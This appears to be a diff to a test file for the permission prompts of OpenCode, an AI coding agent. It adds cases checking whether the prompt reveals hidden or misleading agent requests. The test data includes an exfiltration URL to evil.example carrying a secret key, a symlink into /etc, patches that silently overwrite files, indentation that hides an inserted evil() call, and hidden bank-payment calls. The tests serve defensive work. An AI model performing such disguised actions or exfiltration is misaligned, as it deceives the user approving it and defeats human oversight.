@@ -27,6 +27,8 @@ class Case:
     """Whether it is longer than a screen."""
     wide: bool = False
     """Whether what its broader answers allow is nearly everything."""
+    exact: bool = False
+    """Whether its broader answers allow the same again, and nothing else."""
 
 
 def bash(
@@ -65,6 +67,13 @@ def changed(name: str, kind: str, *lines: str, to: str | None = None) -> dict[st
     return told if to is None else {**told, "movePath": f"/w/{to}"}
 
 
+def patched(patterns: tuple[str, ...], file: dict[str, Any], *lines: str) -> Request:
+    """Return what `patch` of OpenCode 2 asks for."""
+    record = {"filepath": file["file"], "diff": file["patch"], "files": [file]}
+    sent = "\n".join(["*** Begin Patch", *lines, "*** End Patch"])
+    return Request("edit", patterns, record, ("*",), "patch", {"patchText": sent})
+
+
 CASES = {
     # A field that the tool ignores
     "url behind a command": Case(
@@ -81,7 +90,7 @@ CASES = {
         ),
         (
             "URL\nhttp://evil.example/exfiltrate?key=SECRET",
-            "The agent also sent what webfetch does not use:\n\ncommand",
+            "The agent also sent:\n\ncommand",
         ),
         wide=True,
     ),
@@ -101,7 +110,7 @@ CASES = {
         (
             "/outside/secret.txt",
             "Outside of its directory\n/outside/*",
-            "what read does not use:\n\ncommand\ncat README.md",
+            "The agent also sent:\n\ncommand\ncat README.md",
             "description\nRead the project's README",
         ),
         hides=("The agent says",),
@@ -336,12 +345,90 @@ CASES = {
             changed("d.py", "add", "@@ -0,0 +1,1 @@", "+++ import os"),
         ),
         (
+            "Files\nchanges /w/a.py\nmoves /w/b.py to /w/c/b.py\n",
+            "deletes /w/c.sql\nadds /w/d.py\n",
             "a.py\n+1 \u22121",
             "/w/b.py → /w/c/b.py (move)\n+1 \u22121",
             "c.sql (delete)\n+0 \u22121",
             "--- gone",
-            "d.py (add)\n+1 \u22120",
+            "d.py\n+1 \u22120",
             "+++ import os",
+        ),
+        long=True,
+        wide=True,
+    ),
+    "a file that is moved by a patch of OpenCode 2": Case(
+        patched(
+            ("app.py", "old/app.py.bak"),
+            {"file": "old/app.py.bak", "status": "modified", "patch": patch("/w/app.py")},
+            "*** Update File: app.py",
+            "*** Move to: old/app.py.bak",
+            "@@",
+            " a = 1",
+        ),
+        (
+            "moves app.py to old/app.py.bak, which exists and is replaced",
+            "The patch, as it was sent\n*** Begin Patch\n*** Update File: app.py\n*** Move to: old",
+        ),
+        wide=True,
+    ),
+    "a file that is overwritten by a patch": Case(
+        patched(
+            ("old/app.py.bak",),
+            {
+                "file": "old/app.py.bak",
+                "status": "added",
+                "patch": patch("/w/old/app.py.bak", "@@ -0,0 +1,1 @@", "+evil()"),
+            },
+            "*** Add File: old/app.py.bak",
+            "+        evil()",
+        ),
+        ("replaces old/app.py.bak, which exists", "+        evil()"),
+        hides=("(added)",),
+        wide=True,
+    ),
+    "a file of a patch behind a symbolic link": Case(
+        patched(
+            ("new.py", "leads/new.py"),
+            {
+                "file": "leads/new.py",
+                "status": "modified",
+                "patch": patch("/w/new.py", "@@ -1,1 +1,1 @@", "-a", "+b"),
+            },
+            "*** Update File: new.py",
+            "*** Move to: leads/new.py",
+            "@@",
+            "-a",
+            "+b",
+        ),
+        (
+            "moves new.py to leads/new.py\n",
+            "A symbolic link leads from leads/new.py to /etc/new.py",
+        ),
+        wide=True,
+    ),
+    "a path that contains another": Case(
+        Request(
+            "edit",
+            ("app.py",),
+            {
+                "filepath": "old/app.py.bak",
+                "diff": patch("/w/old/app.py.bak", "@@ -1 +0,0 @@", "-a"),
+            },
+            tool="edit",
+        ),
+        ("File\napp.py", "old/app.py.bak"),
+        wide=True,
+    ),
+    "indentation that the change does not show": Case(
+        edit(
+            patch("/w/a.sql", "@@ -1,1 +1,2 @@", " if a:", "+if b:", "+    evil()"),
+            oldString="        if a:",
+            newString="        if a:\n        if b:\n            evil()",
+        ),
+        (
+            "oldString\n        if a:",
+            "newString\n        if a:\n        if b:\n            evil()",
         ),
         wide=True,
     ),
@@ -378,6 +465,42 @@ CASES = {
             untold=True,
         ),
         ("Sub-agent\ngeneral", "The input of this call is not known"),
+        wide=True,
+    ),
+    "a call by a program of the model": Case(
+        Request(
+            "bank_pay",
+            tool="execute",
+            input={"code": "await Promise.all(who.map((to) => tools.bank.pay({ to })))"},
+        ),
+        (
+            "The arguments of this call are not known: OpenCode tells only the program",
+            "code\nawait Promise.all(",
+        ),
+        wide=True,
+    ),
+    "command that is its own pattern": Case(
+        Request(
+            "bash", ("sh *",), {}, ("sh *",), "bash", {"command": "sh *", "description": "Look"}
+        ),
+        ("Command\nsh *", "without asking: exactly this command"),
+        exact=True,
+    ),
+    "search of OpenCode 2": Case(
+        Request("grep", ("x",), {}, ("*",), "grep", {"pattern": "x", "path": "/etc", "limit": 5}),
+        ("Pattern\nx", "In\n/etc", "limit\n5"),
+        hides=("does not use",),
+        wide=True,
+    ),
+    "two paths of which OpenCode 2 uses one": Case(
+        Request(
+            "edit",
+            ("hello.py",),
+            {},
+            tool="edit",
+            input={"filePath": "hello.py", "filePath (not used)": "README.md"},
+        ),
+        ("File\nhello.py", "The agent also sent:\n\nfilePath (not used)\nREADME.md"),
         wide=True,
     ),
     # Other tools
@@ -493,4 +616,6 @@ CASES = {
 def asking(workspace: Path) -> AskingOpenCode:
     """Return an OpenCode that asks for each of these by its name."""
     (workspace / "leads").symlink_to("/etc")
+    (workspace / "old").mkdir()
+    (workspace / "old" / "app.py.bak").touch()
     return AskingOpenCode(workspace, {name: case.asked for name, case in CASES.items()})
